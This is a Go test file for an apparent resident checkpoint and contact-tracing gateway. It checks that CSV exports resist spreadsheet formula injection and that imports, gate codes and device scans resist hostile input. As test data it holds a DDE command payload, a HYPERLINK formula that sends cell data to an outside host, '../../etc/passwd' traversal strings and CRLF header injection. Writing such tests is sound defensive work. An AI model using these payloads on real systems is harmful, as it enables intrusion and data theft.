package gateway

import (
	"encoding/csv"
	"fmt"
	"net/http"
	"path"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/text/encoding/simplifiedchinese"

	"passgate/checkpoint"
)

// formulas are texts that a spreadsheet runs, one for each way to begin.
var formulas = []string{
	"=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", "＝1+1", "＋1", "－1", "＠SUM(A1)", "\u3000=1", "'=1", `=HYPERLINK("http://x?"&A1)`,
}

// cellsOf reads a CSV export, and fails the test on a cell that is run.
func (a answer) cellsOf() [][]string {
	a.t.Helper()
	text, marked := strings.CutPrefix(string(a.ok(http.StatusOK).body), "\ufeff")
	if !marked || !strings.HasPrefix(a.header.Get("Content-Type"), mimeCSV) {
		a.t.Fatalf("no CSV for a spreadsheet: %s: %.80q", a.header.Get("Content-Type"), text)
	}
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil || len(rows) < 2 {
		a.t.Fatalf("%d rows, %v", len(rows), err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if first := strings.TrimLeft(cell, " \u3000\u00a0"); first != "" && strings.ContainsRune("=+-@\t\r\n＝＋－＠", []rune(first)[0]) {
				a.t.Errorf("a spreadsheet runs %q", cell)
			}
		}
	}
	return rows
}

func TestNoExportIsRunByASpreadsheet(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.project()
	w.changeSite("ML", func(s *checkpoint.Site) { s.Name = "=商场" })
	w.change(func(d *checkpoint.Draft) error {
		dev := w.device("E9", "M1")
		dev.Lane = "@东门"
		dev.TokenHash = hashToken([]byte(w.deviceToken("E9")))
		return d.PutDevice(dev)
	})
	evil := w.enrol("=王+小", "V1", "1-101")
	names := []string{"=王+小"}
	for _, formula := range formulas {
		name := "+李" + formula
		w.enrol(name, "V1", formula)
		names = append(names, name)
	}
	for i, formula := range formulas {
		w.scan("E9", w.newScan([]uint64{evil, w.people["wang"]}[i%2]).with(fields{"plate": formula[:min(len(formula), 18)], "plate_unchecked": true})).ok(http.StatusOK)
		w.clock.Advance(time.Minute)
	}
	eventually(t, "the index has all", func() bool { return len(w.events("M1", "", 100)) == len(formulas) })

	const window = "from=2020-02-11&to=2020-02-12"
	accept := func(path string) [][]string {
		return w.do(http.MethodGet, path, w.as("tracer"), nil, "Accept", mimeCSV).cellsOf()
	}
	rows := accept("/v1/gates/M1/events?" + window)
	if column := slices.Index(rows[0], "lane"); rows[1][column] != "'@东门" {
		t.Errorf("the lane is written %q", rows[1][column])
	}
	person := checkpoint.FormatPersonID(evil)
	rows = accept("/v1/residents/" + person + "/trajectory?" + window)
	if !slices.ContainsFunc(rows, func(row []string) bool { return slices.Contains(row, "'=商场") }) {
		t.Errorf("the site's name is not in %q", rows)
	}
	accept("/v1/residents/" + person + "/contacts?" + window)
	accept("/v1/sites/ML/inside/people?at=2020-02-11T12:08:00%2B08:00")
	crowd := w.do(http.MethodPost, "/v1/crowd", w.as("tracer"), fields{
		"windows": []fields{{"gate": "M1", "from": "2020-02-11", "to": "2020-02-12"}, {"gate": "M1", "from": "2020-02-11", "to": "2020-02-12"}}, "at_least": 2,
	}, "Accept", mimeCSV)
	if crowd.status == http.StatusOK {
		crowd.cellsOf()
	} else {
		t.Errorf("crowd: %d %s", crowd.status, crowd.body)
	}

	// What was exported and is imported again changes nobody.
	exported := w.do(http.MethodGet, "/v1/residents?site=V1", w.as("enroller"), nil, "Accept", "text/csv")
	rows = exported.cellsOf()
	if faults := w.importCSV("enroller", exported.body, "text/csv").counted(0, 0, len(rows)-1); len(faults) > 0 {
		t.Errorf("refused again: %+v", faults)
	}
}

func TestHostileImportsAreBounded(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	const head = "name,id_number,site\n"
	good := func() string { return "王一," + newDocument() + ",V1\n" }
	gb, err := simplifiedchinese.GB18030.NewEncoder().String("张三,A7654321,V1\n")
	w.must(err)
	room := largeBody - 4096
	for name, c := range map[string]struct {
		body    string
		created int      // -1: the file is refused as a whole
		at      []string // faults
	}{
		"a line of 2 MiB":            {head + good() + strings.Repeat("x", room) + "\n" + good(), 2, []string{"3:name"}},
		"2 million columns":          {head + good() + strings.Repeat(",", room) + "\n" + good(), -1, nil},
		"2 million columns above":    {"name,id_number,site" + strings.Repeat(",", room) + "\n" + good(), -1, nil},
		"all columns that may be":    {head + good() + strings.Repeat(",", maxImportCells-8) + "x\n" + good(), 2, []string{"3:"}},
		"two million lines":          {head + good() + strings.Repeat("\n", room), 1, []string{}},
		"a million open quotes":      {head + good() + strings.Repeat("\"\n", room/2), 1, nil},
		"NULs":                       {head + good() + "\x00\x00,\x00,V1\n" + good(), 2, []string{"3:name"}},
		"two character sets":         {head + good() + gb + good(), 3, []string{}},
		"a quote that swallows":      {head + good() + `"王二,` + strings.Repeat("x", room/2) + "\n" + good(), 2, []string{"3:"}},
		"escapes for a terminal":     {head + good() + "\x1b[31m王\x1b]0;x\a,A7777777,V1\n", 1, []string{"3:name"}},
		"directions that turn round": {head + good() + "王\u202e二,A7777777,V1\n", 1, []string{"3:name"}},
	} {
		t.Run(name, func(t *testing.T) {
			a := w.importCSV("enroller", c.body, "text/csv")
			a.t = t
			if c.created < 0 {
				if a.status != http.StatusRequestEntityTooLarge && a.status != http.StatusUnprocessableEntity {
					t.Errorf("status %d: %.200s", a.status, a.body)
				}
				return
			}
			got := a.ok(http.StatusOK).json()
			if got["created"] != float64(c.created) {
				t.Errorf("created %v, want %d: %.300s", got["created"], c.created, a.body)
			}
			if len(a.body) > 64<<10 {
				t.Errorf("the answer has %d KiB", len(a.body)>>10)
			}
			var at []string
			for _, f := range got["errors"].([]any) {
				at = append(at, fmt.Sprintf("%v:%v", f.(map[string]any)["row"], f.(map[string]any)["field"]))
			}
			if c.at != nil && !slices.Equal(at, c.at) {
				t.Errorf("faults at %v, want %v", at, c.at)
			}
		})
	}
}

// TestImportMemory: what reading a full body takes, whatever is in it.
func TestImportMemory(t *testing.T) { // not parallel: it counts what is allocated
	const head = "name,id_number,site\n"
	room := largeBody - len(head) - 8
	for name, text := range map[string]string{
		"commas":       head + strings.Repeat(",", maxImportCells-4) + strings.Repeat("x", room-maxImportCells),
		"short rows":   head + strings.Repeat("a,b,c\n", room/6),
		"stray quotes": head + strings.Repeat("\"a\"b\n", room/5),
		"open quotes":  head + strings.Repeat("\"\n", room/2),
		"NULs":         head + strings.Repeat("\x00", room),
	} {
		var before, after runtime.MemStats
		runtime.ReadMemStats(&before)
		began := time.Now()
		text, err := toUTF8([]byte(text), "")
		if err == nil {
			_, err = readRows(text)
		}
		took := time.Since(began)
		runtime.ReadMemStats(&after)
		allocated := after.TotalAlloc - before.TotalAlloc
		t.Logf("%s: %d MiB allocated, %v, %v", name, allocated>>20, took.Round(time.Millisecond), err)
		if allocated > 256<<20 || took > 10*time.Second {
			t.Errorf("%s: %d MiB allocated in %v", name, allocated>>20, took)
		}
	}
}

func TestNoCodeLeadsOutOfItsPlace(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	for _, code := range []string{"..", "../../etc/passwd", "..%2f..%2fetc", `a"; filename="b`, "a\r\nSet-Cookie: x=1", "a/b", `a\b`, "a\x00b", ".", strings.Repeat("x", 41), "门"} {
		err := w.store.Change(t.Context(), func(d *checkpoint.Draft) error {
			return d.PutGate(checkpoint.Gate{Code: code, Name: "x", Site: "V1"})
		})
		if err == nil {
			t.Errorf("a gate has the code %q", code)
		}
		res := w.do(http.MethodGet, "/v1/gates/"+strings.NewReplacer("/", "%2f", "\r", "%0d", "\n", "%0a", "\x00", "%00", `"`, "%22", " ", "%20", `\`, "%5c").Replace(code)+"/events?format=csv", w.as("tracer"), nil)
		if res.status == http.StatusOK || res.header.Get("Content-Disposition") != "" || res.header.Get("Set-Cookie") != "" {
			t.Errorf("%q: status %d, %v", code, res.status, res.header)
		}
	}
	kept := w.do(http.MethodGet, "/v1/gates/M1/events?format=xlsx&from=2020-02-11&to=2020-02-12", w.as("tracer"), nil).ok(http.StatusOK).header.Get("Content-Disposition")
	name, _ := strings.CutPrefix(kept, `attachment; filename="`)
	if name = strings.TrimSuffix(name, `"`); name == kept || path.Base(name) != name || strings.ContainsAny(name, "\"\\\r\n;") {
		t.Errorf("kept as %q", kept)
	}
}

// TestADeviceFillsNoStore: a stolen token sends no more than a minute's share,
// alone, in batches and in cars; others are not held up, and the next minute
// begins anew.
func TestADeviceFillsNoStore(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	device, _ := w.store.Registry().Device("D1")
	w.must(w.server.scans.admitSome(scansAMinute-2, device.Num, w.server.now(), scansAMinute, "send scans"))
	w.scan("D1", w.newScan(w.people["wang"])).ok(http.StatusOK)
	many := make([]any, 30)
	for i := range many {
		many[i] = w.newScan(w.people["wang"])
	}
	if got := w.batch("D1", many...).results(); len(got) != len(many) {
		t.Errorf("%d results: the last batch of a minute is taken whole", len(got))
	}
	w.batch("D1", many...).problem(http.StatusTooManyRequests, "too_many", "")
	back := w.takeBack("annul-0001", w.newScan(w.people["wang"]))
	w.do(http.MethodPost, "/v1/scans/annul", w.deviceToken("D1"), back).problem(http.StatusTooManyRequests, "too_many", "")
	w.scan("D1", w.newScan(w.people["wang"])).problem(http.StatusTooManyRequests, "too_many", "")
	w.do(http.MethodPost, "/v1/scans/vehicle", w.deviceToken("D1"), fields{
		"vehicle": "car-00001", "plate": "鲁A12345", "direction": "in", "occurred_at": utcTime(w.clock.Now().UnixMilli()),
		"scans": []fields{{"id": "scan-in-car", "resident": checkpoint.FormatPersonID(w.people["wang"])}},
	}).problem(http.StatusTooManyRequests, "too_many", "")
	w.scan("D2", w.newScan(w.people["li"])).ok(http.StatusOK)
	w.clock.Advance(time.Minute)
	w.scan("D1", w.newScan(w.people["wang"])).ok(http.StatusOK)
	if trail := w.trailOf(w.people["wang"]); len(trail) != 2+len(many) {
		t.Errorf("%d events on the trail, want %d", len(trail), 2+len(many))
	}
}
